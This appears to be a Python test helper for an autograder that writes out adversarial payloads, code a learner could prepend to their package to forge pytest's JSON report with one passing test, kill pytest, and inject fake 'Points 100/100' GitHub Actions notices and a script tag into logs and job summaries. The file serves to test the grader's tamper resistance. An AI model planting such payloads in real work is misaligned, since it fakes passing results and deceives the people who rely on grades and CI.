"""What a learner set on a better grade might put in their code, for the grading tests.

Each payload is Python source prepended to a stage's `sketch/__init__.py`, so it runs in
every process that imports the learner's package: the servers the tests start (`python -m
sketch`) and, where a stage's tests import `sketch`, the pytest process itself.
"""

from __future__ import annotations

import json
from pathlib import Path

# Walk up from this process to the first one whose command line holds NEEDLE.
_ANCESTOR = """
def _ancestor(needle):
    import os
    pid = os.getpid()
    while pid > 1:
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            return None, []
        if needle in argv:
            return pid, argv
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return None, []
    return None, []
"""

FAKE_LINES = (
    "::notice title=Autograding complete::Points 100/100\n<script>alert('graded')</script>\n"
)


def forged_report(nodeid: str, well_formed: bool = True) -> str:
    """Rewrite the run's report (found in pytest's command line) with one passing test, then
    exit: at once inside pytest, or, from a server, after killing pytest."""
    if well_formed:
        test = {"nodeid": nodeid, "name": nodeid.rsplit("::", 1)[-1], "status": "pass",
                "file": Path(nodeid.split("::")[0]).name, "message": "", "output": "",
                "duration": 0.1}  # fmt: skip
        report = {"tests": [test], "collected": 1, "errors": [], "finished": True,
                  "items": [{k: test[k] for k in ("nodeid", "name", "file")}]}  # fmt: skip
    else:
        report = {"tests": [{"nodeid": 1, "points": "all"}], "finished": "yes"}
    return (
        _ANCESTOR
        + f"""
def _forge():
    import os, signal
    pid, argv = _ancestor(b"--report-json")
    if pid is None:
        return
    with open(argv[argv.index(b"--report-json") + 1].decode(), "w") as report:
        report.write({json.dumps(json.dumps(report))})
    if pid != os.getpid():
        os.kill(pid, signal.SIGKILL)
    os._exit(0)


_forge()
"""
    )


def fake_announcements() -> str:
    """Print workflow commands and HTML: in its own output, straight into the grading
    process's output (the job's log), and into the job's summary and outputs if it can."""
    return (
        _ANCESTOR
        + f"""
def _announce():
    import os, sys
    lines = {FAKE_LINES!r}
    print(lines, flush=True)
    sys.stderr.write(lines)
    for name in ("GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT", "GITHUB_ENV"):
        if os.environ.get(name):
            with open(os.environ[name], "a") as f:
                f.write("forged\\n" + lines)
    pid, _ = _ancestor(b"grade")
    if pid is not None:
        try:
            with open(f"/proc/{{pid}}/fd/1", "a") as log:
                log.write(lines)
        except OSError:
            pass


_announce()
raise SystemExit({FAKE_LINES!r})  # and exit with them as the last words a test shows
"""
    )


def plant(sketch: Path, payload: str) -> None:
    """Put PAYLOAD at the top of the package's __init__.py (after a docstring, if any)."""
    init = sketch / "__init__.py"
    text = init.read_text(encoding="utf-8")
    init.write_text(payload + "\n" + text, encoding="utf-8")
